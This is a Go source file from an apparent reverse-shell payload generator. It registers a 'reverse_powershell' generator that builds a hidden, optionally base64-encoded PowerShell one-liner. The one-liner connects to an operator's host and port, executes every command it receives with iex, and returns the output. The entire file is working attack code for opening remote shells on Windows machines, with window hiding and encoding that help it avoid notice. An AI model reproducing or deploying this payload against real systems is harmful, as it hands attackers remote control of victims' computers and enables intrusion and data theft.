// Package windows holds command payloads for Windows targets.
package windows

import (
	"encoding/base64"
	"fmt"
	"strings"

	"github.com/josephlewis42/revshell/core/payload"
	"golang.org/x/text/encoding/unicode"
)

// Namespace is where the package's generators are registered.
const Namespace = "payloads/cmd/windows"

func init() {
	payload.Register(Namespace, ReversePowershell)
}

// ReversePowershell evaluates commands read from a TCP client and writes
// their output back with a prompt.
var ReversePowershell = &payload.Generator{
	Name: "reverse_powershell",
	Doc: `Creates a PowerShell prompt over a TCP client.

When encode is set the script is passed base64 encoded with -EncodedCommand so
it survives cmd.exe quoting.`,
	Params: payload.Signature{
		payload.Positional("lhost"),
		payload.Positional("lport"),
		payload.Option("powershell_path", payload.StringValue("powershell")),
		payload.Option("encode", payload.IntValue(1)),
	},
	Render: reversePowershell,
}

const clientScript = `$c=New-Object Net.Sockets.TCPClient(%s,%d);$s=$c.GetStream();[byte[]]$b=0..65535|%%{0};` +
	`while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);` +
	`$o=(iex $d 2>&1|Out-String);$p=$o+'PS '+(pwd).Path+'> ';$e=([Text.Encoding]::ASCII).GetBytes($p);` +
	`$s.Write($e,0,$e.Length);$s.Flush()};$c.Close()`

// psQuote wraps s in a PowerShell single quoted string.
func psQuote(s string) string {
	return "'" + strings.ReplaceAll(s, "'", "''") + "'"
}

// encodeCommand encodes script the way -EncodedCommand expects it.
func encodeCommand(script string) (string, error) {
	utf16, err := unicode.UTF16(unicode.LittleEndian, unicode.IgnoreBOM).NewEncoder().String(script)
	if err != nil {
		return "", err
	}
	return base64.StdEncoding.EncodeToString([]byte(utf16)), nil
}

func reversePowershell(lhost string, lport int, opts *payload.OptionSet) (string, error) {
	ps := opts.StringOr("powershell_path", "powershell")
	script := fmt.Sprintf(clientScript, psQuote(lhost), lport)

	if !opts.Truthy("encode") {
		return fmt.Sprintf(`%s -nop -w hidden -c "%s"`, ps, strings.ReplaceAll(script, `"`, `\"`)), nil
	}

	encoded, err := encodeCommand(script)
	if err != nil {
		return "", fmt.Errorf("encoding script: %w", err)
	}
	return fmt.Sprintf("%s -nop -w hidden -e %s", ps, encoded), nil
}
